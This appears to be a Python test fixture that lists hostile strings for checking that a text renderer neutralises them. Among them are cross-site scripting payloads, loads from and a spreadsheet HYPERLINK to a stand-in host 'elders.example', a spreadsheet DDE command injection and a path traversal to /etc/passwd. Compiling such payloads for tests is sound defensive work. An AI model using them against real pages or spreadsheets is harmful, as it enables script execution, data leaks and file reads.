"""What an attacker would write in a text: each kind would run, ask another host, or break a page."""

from tests.toytown_workspace import PAYLOADS

KINDS = (
    *PAYLOADS,
    '<iframe srcdoc="<script>window.top.ran=1</script>"></iframe>',
    "</script><script>window.top.ran=1</script>",
    "</style></title></textarea><details open ontoggle=window.top.ran=1>",
    "<a href='javascript:window.top.ran=1'>klik</a><form action=//elders.example><input autofocus onfocus=top.ran=1>",
    "<link rel=stylesheet href=//elders.example/x.css><style>@import '//elders.example/y.css'</style>",
    '\\"};window.top.ran=1;//\u2028window.top.ran=1',
    '=HYPERLINK("https://elders.example/?"&A1;"klik")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    ":red[x] :material/home: $$\\frac{1}{0}$$ [![z](//elders.example/z.png)](//elders.example) | a | b |",
    "omkeren \u202e\u2066 bel \x07 ver \u0360\u0361\u0362 teken \U000e0041",
    "__proto__ constructor.prototype {0} %s %n ../../../../etc/passwd",
    "x" * 190,
    "<!-- nooit gesloten",
)
TRACES = ("elders.example", "top.ran", "etc/passwd")
